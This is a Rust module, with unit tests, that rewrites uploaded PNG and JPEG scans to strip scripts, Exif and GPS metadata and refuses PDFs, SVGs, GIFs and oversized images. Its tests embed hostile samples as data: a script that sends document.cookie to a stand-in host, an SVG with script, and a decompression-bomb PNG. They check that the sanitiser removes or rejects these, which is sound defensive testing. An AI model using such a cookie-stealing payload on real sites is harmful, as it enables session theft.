//! A scanned paper: read as a picture and written anew, so that what is stored holds dots and nothing else: no script, no
//! place where it was taken, no name of a camera.

use std::io::Cursor;

use image::codecs::jpeg::JpegEncoder;
use image::{DynamicImage, ImageDecoder, ImageFormat, ImageReader, Limits};
use samsyn_store::ScanKind;

/// The most dots along one side.
const MAX_SIDE: u32 = 10_000;
/// The most memory that reading one may take, in bytes: some 40 million dots.
const MAX_MEMORY: u64 = 128 * 1024 * 1024;
/// How finely a JPEG is written: handwriting stays readable.
const QUALITY: u8 = 88;

/// Why something is no scan.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum NotAScan {
    /// A PDF: a photo of the paper is asked for instead.
    Pdf,
    /// No picture that can be read.
    NoPicture,
    /// A picture that would take too much memory.
    TooManyDots,
}

/// Reads a PNG or JPEG and writes it anew, turned as it was meant to be seen. Takes up to some seconds of CPU: call it off
/// the event loop.
///
/// # Errors
/// [`NotAScan`].
pub fn written_anew(file: &[u8]) -> Result<(ScanKind, Vec<u8>), NotAScan> {
    if file.starts_with(b"%PDF") {
        return Err(NotAScan::Pdf);
    }
    // By its first bytes alone, whatever it calls itself; other formats that the decoder may know are not asked.
    let kind = match image::guess_format(file) {
        Ok(ImageFormat::Png) => ScanKind::Png,
        Ok(ImageFormat::Jpeg) => ScanKind::Jpeg,
        _ => return Err(NotAScan::NoPicture),
    };
    let picture = decoded(file, kind)?;
    let mut out = Cursor::new(Vec::new());
    let written = match kind {
        ScanKind::Png => picture.write_to(&mut out, ImageFormat::Png),
        ScanKind::Jpeg => {
            JpegEncoder::new_with_quality(&mut out, QUALITY).encode_image(&DynamicImage::from(picture.into_rgb8()))
        }
    };
    written.map_err(|_| NotAScan::NoPicture)?;
    Ok((kind, out.into_inner()))
}

fn decoded(file: &[u8], kind: ScanKind) -> Result<DynamicImage, NotAScan> {
    let format = match kind {
        ScanKind::Png => ImageFormat::Png,
        ScanKind::Jpeg => ImageFormat::Jpeg,
    };
    let mut limits = Limits::default();
    limits.max_image_width = Some(MAX_SIDE);
    limits.max_image_height = Some(MAX_SIDE);
    limits.max_alloc = Some(MAX_MEMORY);
    let mut reader = ImageReader::with_format(Cursor::new(file), format);
    reader.limits(limits);
    let mut decoder = reader.into_decoder().map_err(|error| fault(&error))?;
    if decoder.total_bytes() > MAX_MEMORY {
        return Err(NotAScan::TooManyDots);
    }
    // How the telephone was held stands beside the dots; it is the one thing that is taken from there.
    let turned = decoder.orientation().map_err(|error| fault(&error))?;
    let mut picture = DynamicImage::from_decoder(decoder).map_err(|error| fault(&error))?;
    picture.apply_orientation(turned);
    Ok(picture)
}

fn fault(error: &image::ImageError) -> NotAScan {
    match error {
        image::ImageError::Limits(_) => NotAScan::TooManyDots,
        _ => NotAScan::NoPicture,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use image::{GenericImageView, RgbImage};

    fn picture(width: u32, height: u32) -> DynamicImage {
        let dot = |x: u32, y: u32| image::Rgb([(x % 251) as u8, (y % 241) as u8, 90]);
        DynamicImage::from(RgbImage::from_fn(width, height, dot))
    }

    fn file(picture: &DynamicImage, format: ImageFormat) -> Vec<u8> {
        let mut out = Cursor::new(Vec::new());
        picture.write_to(&mut out, format).unwrap();
        out.into_inner()
    }

    fn holds(bytes: &[u8], words: &[u8]) -> bool {
        bytes.windows(words.len()).any(|window| window == words)
    }

    /// A PNG with a text chunk before its end, and more after it.
    fn png_with(words: &[u8]) -> Vec<u8> {
        let png = file(&picture(8, 6), ImageFormat::Png);
        let body = [b"tEXtComment\0".as_slice(), words].concat();
        let mut check = !0_u32;
        for byte in &body {
            check ^= u32::from(*byte);
            for _ in 0..8 {
                check = if check & 1 == 1 { (check >> 1) ^ 0xEDB8_8320 } else { check >> 1 };
            }
        }
        let length = u32::try_from(body.len() - 4).unwrap().to_be_bytes();
        let chunk = [length.as_slice(), &body, &(!check).to_be_bytes()].concat();
        let (start, end) = png.split_at(png.len() - 12);
        [start, &chunk, end, words].concat()
    }

    #[test]
    fn a_script_in_a_picture_does_not_come_through() {
        let script = b"<script>fetch('https://example.invalid/'+document.cookie)</script>";
        let sent = png_with(script);
        assert!(holds(&sent, script));
        let (kind, kept) = written_anew(&sent).unwrap();
        assert_eq!(kind, ScanKind::Png);
        assert!(!holds(&kept, b"script") && !holds(&kept, b"tEXt"));
        assert_eq!(image::load_from_memory(&kept).unwrap().into_rgb8(), picture(8, 6).into_rgb8(), "every dot is kept");
        let jpeg = [file(&picture(9, 7), ImageFormat::Jpeg), script.to_vec()].concat();
        let (kind, kept) = written_anew(&jpeg).unwrap();
        assert!(kind == ScanKind::Jpeg && !holds(&kept, b"script"));
    }

    #[test]
    fn where_a_photo_was_taken_is_not_kept_but_how_it_was_held_is() {
        // An Exif segment that says: turned a quarter (orientation 6), with a made-up place after it.
        let tiff = [b"II*\0\x08\0\0\0\x01\0\x12\x01\x03\0\x01\0\0\0\x06\0\0\0\0\0\0\0".as_slice(), b"GPS 59.33 18.06"]
            .concat();
        let body = [b"Exif\0\0".as_slice(), &tiff].concat();
        let length = u16::try_from(body.len() + 2).unwrap().to_be_bytes();
        let jpeg = file(&picture(16, 8), ImageFormat::Jpeg);
        let sent = [&jpeg[..2], &[0xFF, 0xE1], &length, &body, &jpeg[2..]].concat();
        let (_, kept) = written_anew(&sent).unwrap();
        assert!(!holds(&kept, b"Exif") && !holds(&kept, b"GPS"));
        assert_eq!(image::load_from_memory(&kept).unwrap().dimensions(), (8, 16));
    }

    #[test]
    fn what_is_no_picture_is_refused_with_its_reason() {
        let svg = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>".to_vec();
        let gif = b"GIF89a\x01\0\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x01\0;".to_vec();
        let broken = file(&picture(40, 40), ImageFormat::Png)[..60].to_vec();
        for (bytes, why) in [
            (b"%PDF-1.7 ...".to_vec(), NotAScan::Pdf),
            (svg, NotAScan::NoPicture),
            (gif, NotAScan::NoPicture),
            (broken, NotAScan::NoPicture),
            (vec![0; 5000], NotAScan::NoPicture),
            (b"\xFF\xD8\xFF only a beginning".to_vec(), NotAScan::NoPicture),
            (file(&picture(10_001, 1), ImageFormat::Png), NotAScan::TooManyDots),
        ] {
            assert_eq!(written_anew(&bytes).unwrap_err(), why, "{} bytes", bytes.len());
        }
        // A small file that says it is 9,000 dots wide and high takes no memory for them.
        let mut bomb = file(&picture(4, 4), ImageFormat::Png);
        bomb[16..24].copy_from_slice(&[0, 0, 0x23, 0x28, 0, 0, 0x23, 0x28]);
        assert!(matches!(written_anew(&bomb), Err(NotAScan::TooManyDots | NotAScan::NoPicture)));
    }
}
